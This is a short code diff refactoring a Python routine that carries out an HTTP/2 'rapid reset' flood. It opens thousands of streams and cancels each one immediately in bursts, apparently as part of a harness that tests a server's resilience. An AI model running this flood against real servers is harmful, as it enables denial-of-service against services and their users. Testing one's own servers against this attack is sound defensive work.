@@ -81,17 +81,24 @@ def send_all(connection, data):
         return False
 
 
-def rapid_reset(peer):
-    connection = peer.http2()
-    block = request_headers(HEALTH)
+N_RESETS = 10000
+
+
+def reset_streams(connection, block):
+    """Opens streams and cancels each in the same breath."""
     cancel = struct.pack(">I", 8)
-    for first in range(1, 20001, 400):
+    for first in range(1, 2 * N_RESETS, 400):
         burst = b"".join(
             frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel)
             for stream in range(first, first + 400, 2)
         )
         if not send_all(connection, burst):
             break
+
+
+def rapid_reset(peer):
+    connection = peer.http2()
+    reset_streams(connection, request_headers(HEALTH))
     connection.close()
 
 
